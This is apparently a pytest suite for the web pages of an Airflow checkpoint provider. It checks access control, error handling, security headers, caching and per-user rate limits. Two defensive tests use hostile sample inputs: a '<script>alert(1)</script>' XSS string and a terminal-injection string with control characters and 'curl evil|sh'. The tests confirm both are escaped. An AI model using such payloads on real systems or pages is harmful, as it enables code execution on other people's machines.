"""The answers of the pages, without an Airflow: what a viewer is told of what is damaged, hidden or fails."""

from __future__ import annotations

import asyncio
import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from html import unescape
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import httpx
import pytest
from airflow.api_fastapi.core_api.security import get_user
from fastapi import Request
from fastapi.testclient import TestClient

from airflow_checkpoint_provider.errors import StoreDenied, StoreUnavailable
from airflow_checkpoint_provider.hooks.connections import SELDOM
from airflow_checkpoint_provider.hooks.references import HistoryReference
from airflow_checkpoint_provider.storage import MemoryStore, Store
from airflow_checkpoint_provider.ui import app, connections, listing
from airflow_checkpoint_provider.ui.access import MOST_DAGS, Viewer
from airflow_checkpoint_provider.ui.polling import EVERY, UNDER_WAY, Polls
from airflow_checkpoint_provider.ui.threads import USER
from tests.support.faults import FaultyStore, served
from tests.support.recorded import RUN, Recorded, second_attempt, shared_by_two_runs, three_stages
from tests.support.s3server import S3Server
from tests.support.viewers import CONNECTION, Reads
from tests.unit.ui.shared_histories import MANY, shared_by

ADMIN = Reads("flights_etl", "orders", admin=True)
ABSENT = HistoryReference(CONNECTION, "jobs/nobody/job")


@pytest.fixture(autouse=True)
def _named(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AIRFLOW__CHECKPOINTS__CONNECTIONS", CONNECTION)


@contextmanager
def serving(open_store: Callable[[str], Store], viewer: Viewer) -> Iterator[TestClient]:
    """Serve the pages to one viewer."""
    served = app.build(Polls(open_store, every=0.0, limit=60))
    served.dependency_overrides[app._viewer] = lambda: viewer
    with TestClient(served, raise_server_exceptions=False) as client:
        yield client


def get(store: Store, viewer: Viewer, path: str) -> tuple[int, str]:
    """Return the answer for a path to one viewer."""
    with serving(lambda _: store, viewer) as client:
        answer = client.get(path)
        return answer.status_code, answer.text


def page_of(recorded: Recorded) -> str:
    return f"/job?{HistoryReference(CONNECTION, recorded.keys.prefix).query}"


@pytest.fixture
def flights() -> Recorded:
    recorded = Recorded()
    three_stages(recorded)
    second_attempt(recorded)
    return recorded


@pytest.fixture
def damaged(flights: Recorded) -> Recorded:
    key = flights.keys.entry(1)
    flights.store.overwrite(key, (flights.store.read(key) or b"")[:-9])
    return flights


def test_damaged_history_looks_absent_to_who_may_not_know_of_it(damaged: Recorded) -> None:
    """Whose history it is cannot be read, so the reader of its DAG is told nothing either."""
    for viewer in (Reads("another"), Reads("flights_etl")):
        absent = get(damaged.store, viewer, f"/job?{ABSENT.query}")
        assert absent[0] == 404
        assert get(damaged.store, viewer, page_of(damaged)) == absent


def test_admin_reads_why_a_history_is_damaged(damaged: Recorded) -> None:
    status, text = get(damaged.store, ADMIN, page_of(damaged))
    assert status == 503
    assert "[CKP621]" in text
    assert "journal/" in text


def test_damaged_files_of_a_visible_checkpoint_are_said_to_its_reader(flights: Recorded) -> None:
    key = flights.keys.seal(6)
    flights.store.overwrite(key, (flights.store.read(key) or b"")[:-9])
    path = page_of(flights).replace("/job?", "/files?") + "&id=6"
    status, text = get(flights.store, Reads("flights_etl"), path)
    assert status == 503
    assert "[CKP62" in text
    assert flights.keys.prefix not in text


def test_storage_that_does_not_answer_is_said_to_everybody_who_may_read_a_dag() -> None:
    class Silent(MemoryStore):
        def read(self, key: str) -> bytes | None:
            raise StoreUnavailable(f"no answer for {key}")

    status, text = get(Silent("silent"), Reads("another"), f"/job?{ABSENT.query}")
    assert status == 503
    assert "[CKP613]" in text
    assert "nobody" not in text


def test_history_that_fails_alone_looks_absent_to_who_may_not_know_of_it(flights: Recorded) -> None:
    class Partly(MemoryStore):
        def read(self, key: str) -> bytes | None:
            if key.startswith(flights.keys.prefix):
                raise StoreDenied(f"no access to {key}")
            return super().read(key)

    partly = Partly("partly")
    absent = get(partly, Reads("another"), f"/job?{ABSENT.query}")
    assert absent[0] == 404
    assert get(partly, Reads("another"), page_of(flights)) == absent
    assert get(partly, ADMIN, page_of(flights))[0] == 503


@pytest.mark.parametrize(
    ("dags", "readable"), [(["flights", "orders"], ["flights"]), ([*MANY, "one more"], [*MANY, "one more"])]
)
def test_history_of_a_dag_that_is_denied_or_of_too_many_dags_looks_absent(dags: list[str], readable: list[str]) -> None:
    recorded, viewer = shared_by(dags), Reads(*readable)
    absent = get(recorded.store, viewer, f"/job?{ABSENT.query}")
    assert absent[0] == 404
    for kind in ("job", "files", "charts/timeline-light.svg"):
        path = page_of(recorded).replace("/job?", f"/{kind}?") + "&id=1"
        assert get(recorded.store, viewer, path) == absent
    assert "one more" not in get(recorded.store, viewer, "/jobs")[1]
    assert len(viewer.asked) <= MOST_DAGS


def test_user_without_any_right_asks_nothing_of_the_store(flights: Recorded) -> None:
    store = FaultyStore(flights.store, served)
    paths = [
        "/jobs",
        *(
            page_of(flights).replace("/job?", f"/{kind}?") + "&id=6"
            for kind in ("job", "files", "charts/sizes-dark.svg")
        ),
        f"/job?{ABSENT.query}",
        "/task?dag=flights_etl&run=r&task=t",
    ]
    answers = [get(store, Reads(), path) for path in paths]
    assert [status for status, _ in answers] == [200, 404, 404, 404, 404, 404]
    assert len({text for _, text in answers[1:]}) == 1
    assert "flights_etl" not in answers[0][1]
    assert store.requests == {}
    assert get(store, Reads("flights_etl"), paths[1])[0] == 200
    assert store.requests["read"] > 0


def test_statistics_on_the_page_of_a_run_say_that_they_are_of_the_whole_history() -> None:
    recorded, viewer = shared_by_two_runs(), Reads("flights_etl")
    assert "not of this run alone" in get(recorded.store, viewer, page_of(recorded) + "&run=one")[1]
    assert "not of this run alone" not in get(recorded.store, viewer, page_of(recorded))[1]


def test_page_that_fails_has_a_code_and_no_traceback(flights: Recorded, monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: Any) -> None:
        raise ZeroDivisionError("a detail")

    monkeypatch.setattr(app, "job_page", fails)
    status, text = get(flights.store, ADMIN, page_of(flights))
    assert status == 500
    assert "[CKP900]" in text
    assert "a detail" not in text


def test_headers_forbid_scripts_also_where_a_page_fails(flights: Recorded, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(app, "job_page", None)
    with serving(lambda _: flights.store, ADMIN) as client:
        for path in (page_of(flights), "/nothing", "/job", "/static/page.css"):
            policy = client.get(path).headers["content-security-policy"]
            assert "default-src 'none'" in policy
            assert "unsafe" not in policy


def test_unchanged_page_is_answered_without_its_text(flights: Recorded) -> None:
    with serving(lambda _: flights.store, ADMIN) as client:
        tag = client.get(page_of(flights)).headers["etag"]
        again = client.get(page_of(flights), headers={"If-None-Match": tag})
    assert (again.status_code, again.content) == (304, b"")


def test_table_names_the_attempt_of_a_checkpoint_and_in_a_shared_history_its_run() -> None:
    for scope, named in ((RUN, "attempt 1</td>"), ("", "attempt 1 of one</td>")):
        recorded = Recorded(scope=scope)
        recorded.started("22:00:20", run="" if scope else "one")
        recorded.stage("clean", "22:10:00", "22:10:03", work_s=500, kib=30)
        assert named in get(recorded.store, ADMIN, page_of(recorded))[1]


def test_text_of_the_store_is_escaped() -> None:
    recorded = Recorded()
    three_stages(recorded)
    recorded.aborted(4, "02:55:00", "expired", "<script>alert(1)</script>")
    _, text = get(recorded.store, ADMIN, page_of(recorded))
    assert "<script>alert" not in text
    assert "&lt;script&gt;alert" in text


def test_text_of_the_store_holds_nothing_that_a_terminal_obeys() -> None:
    """Somebody who writes below the root could end the line of a command that is copied and pasted."""
    recorded = Recorded(scope="\x03\ncurl evil|sh\n\u202e\x1b[201~end")
    three_stages(recorded)
    _, text = get(recorded.store, ADMIN, page_of(recorded))
    assert r"\x03 curl evil|sh \u202e\x1b[201~end" in text
    assert [letter for letter in text if not letter.isprintable() and letter != "\n"] == []
    commands = re.findall(r"<code[^>]*>(.*?)</code>", text, re.DOTALL)
    assert any("curl evil" in command for command in commands)
    assert not [command for command in commands if "\n" in command]


def test_pages_take_no_thread_of_airflows_own_answers(flights: Recorded, monkeypatch: pytest.MonkeyPatch) -> None:
    """FastAPI asks for what a page needs in such a thread, if that is no coroutine."""
    taken = list[str]()

    async def noted(call: Callable[..., Any], *arguments: Any, **named: Any) -> Any:
        taken.append(call.__name__)
        return call(*arguments, **named)

    monkeypatch.setattr("fastapi.dependencies.utils.run_in_threadpool", noted)
    served = app.build(Polls(lambda _: flights.store, every=0.0, limit=60))
    served.dependency_overrides[get_user] = _admin
    monkeypatch.setattr(app, "Viewer", lambda _: ADMIN)
    with TestClient(served) as client:
        assert client.get(page_of(flights)).status_code == 200
    assert taken == []


async def _admin() -> Any:
    """Stand for the user that Airflow has logged in."""
    return SimpleNamespace(get_id=lambda: "admin")


@pytest.mark.parametrize("name", ["jobs.html", "job.html", "files.html"])
def test_pages_are_rendered_beside_the_event_loop(
    flights: Recorded, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A large page takes long. Meanwhile the API server must answer everybody else."""
    loops, rendered = set[int](), set[int]()
    get_template, history = app._TEMPLATES.get_template, Polls.history

    def noted(template: str, *others: Any) -> Any:
        if template == name:
            rendered.add(threading.get_ident())
        return get_template(template, *others)

    async def asked(polls: Polls, *reference: Any, **options: Any) -> Any:
        loops.add(threading.get_ident())
        return await history(polls, *reference, **options)

    monkeypatch.setattr(app._TEMPLATES, "get_template", noted)
    monkeypatch.setattr(Polls, "history", asked)
    path = {
        "jobs.html": "/jobs",
        "job.html": page_of(flights),
        "files.html": page_of(flights).replace("job?", "files?") + "&id=6",
    }
    status, _ = get(flights.store, ADMIN, path[name])
    assert (status, len(rendered), len(loops)) == (200, 1, 1)
    assert rendered.isdisjoint(loops)


@pytest.mark.parametrize(("ended", "every"), [(False, EVERY), (True, SELDOM)])
def test_pages_where_nothing_moves_are_fetched_again_seldom(
    ended: bool, every: float, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The next run starts there too."""
    recorded = Recorded(scope="")
    recorded.started("22:00:20", run="one")
    if ended:
        recorded.ended("22:20:00")
    for path in ("/jobs", page_of(recorded)):
        assert f'<main id="main" data-every="{every}">' in get(recorded.store, ADMIN, path)[1]


def test_page_that_does_not_change_is_not_fetched_again(flights: Recorded) -> None:
    assert '<main id="main">' in get(flights.store, ADMIN, page_of(flights).replace("/job?", "/files?") + "&id=6")[1]
    assert '<main id="main">' in get(flights.store, ADMIN, "/nothing")[1]


def test_chart_is_not_kept_for_the_next_user_of_the_browser(flights: Recorded) -> None:
    with serving(lambda _: flights.store, ADMIN) as client:
        text = client.get(page_of(flights)).text
        addresses = [unescape(address) for address in re.findall(r'src="(charts/[^"]*)"', text)]
        kept = {client.get(address).headers["cache-control"] for address in [*addresses, page_of(flights)]}
    assert (len(addresses), kept) == (6, {"no-store"})


def test_chart_has_another_address_when_something_has_happened(flights: Recorded) -> None:
    """A page that stays open loads those images again whose address is another one."""
    version = re.compile(r"version=([^\"]+)").findall
    before = version(get(flights.store, ADMIN, page_of(flights))[1])
    assert version(get(flights.store, ADMIN, page_of(flights))[1]) == before
    flights.started("04:00:00", try_number=3, generation=1)
    assert set(version(get(flights.store, ADMIN, page_of(flights))[1])).isdisjoint(before)


def ids(text: str) -> list[str]:
    return re.findall(r' id="([^"]*)"', text)


def test_what_takes_the_focus_has_a_name_that_does_not_depend_on_what_stands_beside_it(
    flights: Recorded, monkeypatch: pytest.MonkeyPatch
) -> None:
    """So the focus stays where it is when a page is refreshed."""
    link = ('<a id="storage-c-flights_etl.delays"', '<a id="storage-c-a_job"')
    before = get(flights.store, ADMIN, "/jobs")[1]
    Recorded(flights.store, "a_job").started("23:20:00")
    after = get(flights.store, ADMIN, "/jobs")[1]
    assert [name in text for text in (before, after) for name in link] == [True, False, True, True]
    jobs, job = after, get(flights.store, ADMIN, page_of(flights))[1]
    for text in (jobs, job):
        assert len(ids(text)) == len(set(ids(text)))
        assert not any(" " in name for name in ids(text))
        assert all(' id="' in button for button in re.findall("<(?:button|section) [^>]*>", text))


def test_button_of_a_command_has_the_same_name_when_others_come(flights: Recorded) -> None:
    def named() -> set[str]:
        return {
            name for name in ids(get(flights.store, ADMIN, page_of(flights))[1]) if re.match("command-.*copy", name)
        }

    over = named()
    flights.started("04:00:00", try_number=3, generation=1)
    assert over < named()  # a driver that runs can be asked for more


def test_jobs_that_are_not_on_the_first_page_are_on_the_next(
    flights: Recorded, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A part is one of all names: what others may see of it tells them no name."""
    monkeypatch.setattr(listing, "JOBS", 1)
    Recorded(flights.store, "orders.totals").started("22:00:20")
    first, second, third = (get(flights.store, ADMIN, f"/jobs{query}")[1] for query in ("", "?part=2", "?part=3"))
    links = ("jobs?part=1", "jobs?part=2", "jobs?part=3")
    shown = [[part in text for part in ("flights_etl", "orders.totals", *links)] for text in (first, second, third)]
    assert shown == [
        [True, False, False, True, False],
        [False, True, True, False, False],
        [False, False, False, True, False],
    ]
    assert "There are no checkpoints here" in third
    assert "flights_etl" not in get(flights.store, Reads("orders"), "/jobs")[1]
    assert [get(flights.store, ADMIN, f"/jobs?part={part}")[0] for part in ("0", "x", "99999999999")] == [400] * 3


@pytest.mark.parametrize("over", [False, True])
def test_tab_of_a_task_that_has_ended_waits_for_nothing(
    flights: Recorded, over: bool, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(connections, "reference_of", lambda *_: None)
    monkeypatch.setattr(connections, "has_ended", lambda *_: over)
    _, text = get(flights.store, Reads("d"), "/task?dag=d&run=r&task=t")
    assert ("refreshes itself" in text, "data-every" in text) == (not over, not over)
    assert ("has ended" in text) == over


# -- connections that nobody has named -----------------------------------------------------------------------------------


def unnamed(viewer: Viewer, path: str) -> tuple[int, str]:
    """Return an answer of pages whose connections must not be opened."""
    opened = list[str]()

    def open_store(connection: str) -> Store:
        opened.append(connection)
        return MemoryStore("of somebody else")

    with serving(open_store, viewer) as client:
        answer = client.get(path)
    assert opened == []
    return answer.status_code, unescape(answer.text)


@pytest.mark.parametrize("kind", ["job", "files", "charts/timeline-light.svg"])
def test_connection_that_is_not_named_looks_like_an_absent_history(kind: str) -> None:
    viewer, path = Reads("flights_etl"), f"/{kind}?{ABSENT.query}&id=1".replace("connection=c", "connection=theirs")
    assert unnamed(viewer, path) == get(MemoryStore(), viewer, f"/job?{ABSENT.query}")
    status, text = unnamed(ADMIN, path)
    assert (status, "connections = checkpoint_default,theirs" in text, "[CKP642]" in text) == (404, True, True)


def test_tab_of_a_task_with_a_connection_that_is_not_named_says_which_line_is_missing(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(connections, "reference_of", lambda *_: HistoryReference("streams", "jobs/orders/job"))
    status, text = unnamed(Reads("d"), "/task?dag=d&run=r&task=t")
    assert (status, "[CKP642]" in text) == (404, True)
    assert "in section [checkpoints], the line `connections = checkpoint_default,streams`" in text
    assert unnamed(Reads("another"), "/task?dag=d&run=r&task=t") == get(
        MemoryStore(), Reads("d"), f"/job?{ABSENT.query}"
    )
    monkeypatch.setenv("AIRFLOW__CHECKPOINTS__CONNECTIONS", "c, streams")
    recorded = Recorded(job="orders", scope="")
    recorded.started("22:00:20", run="one")
    assert get(recorded.store, Reads("d", admin=True), "/task?dag=d&run=r&task=t")[0] == 200


@pytest.mark.parametrize("named", [False, True])
def test_keys_of_the_machine_are_sent_through_a_connection_that_is_named_only(
    named: bool, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    """A connection without a login uses the keys of the machine, whatever its endpoint is."""
    reference = f"connection=theirs&history={ABSENT.history}"
    monkeypatch.setattr(connections, "reference_of", lambda *_: HistoryReference("theirs", ABSENT.history))
    if named:
        monkeypatch.setenv("AIRFLOW__CHECKPOINTS__CONNECTIONS", "theirs")
    with S3Server() as theirs:
        where = {"root": "s3://lake/checkpoints", "endpoint_url": theirs.url}
        monkeypatch.setenv("AIRFLOW_CONN_THEIRS", json.dumps({"conn_type": "checkpoint_storage", "extra": where}))
        monkeypatch.setenv(
            "AIRFLOW_CONN_C", json.dumps({"conn_type": "checkpoint_storage", "extra": {"root": str(tmp_path)}})
        )
        monkeypatch.setenv("AWS_ACCESS_KEY_ID", "MACHINE")
        monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret of the machine")
        with serving(connections.open_store, Reads("d", admin=True)) as client:
            for path in ("/jobs", f"/job?{reference}", f"/files?{reference}&id=1", "/task?dag=d&run=r&task=t"):
                client.get(path)
        assert bool(theirs.requests.total()) == named


# -- a user who asks for very much ---------------------------------------------------------------------------------------


def test_each_user_has_few_questions_under_way(flights: Recorded, monkeypatch: pytest.MonkeyPatch) -> None:
    """However many requests one of them makes."""
    under_way, users = list[int](), set[str]()

    class Counted(MemoryStore):
        def read(self, key: str) -> bytes | None:
            under_way.append(sum(answer.ended is None for answer in [*polls._answers.values()]))
            users.add(USER.get())
            time.sleep(0.005)
            return flights.store.read(key)

    async def user(request: Request) -> Any:
        return SimpleNamespace(get_id=lambda: request.headers["user"])

    polls = Polls(lambda _: Counted(), every=0.0, limit=60)
    monkeypatch.setattr(app, "Viewer", lambda _: Reads("flights_etl"))
    served = app.build(polls)
    served.dependency_overrides[get_user] = user

    async def look() -> list[int]:
        async with httpx.AsyncClient(transport=httpx.ASGITransport(served), base_url="http://pages") as client:

            async def ask(name: str, path: str) -> int:
                return (await client.get(path, headers={"user": name}, timeout=60)).status_code

            made_up = [page_of(flights).replace("flights_etl", f"made-up-{number}") for number in range(100)]
            greedy = [asyncio.create_task(ask("greedy", path)) for path in made_up]
            while not under_way:
                await asyncio.sleep(0.01)
            return [await ask("modest", page_of(flights)), *await asyncio.gather(*greedy)]

    assert asyncio.run(look()) == [200, *[404] * 100]
    assert max(under_way) <= 2 * UNDER_WAY
    assert users == {"greedy", "modest"}  # each of whom has turns
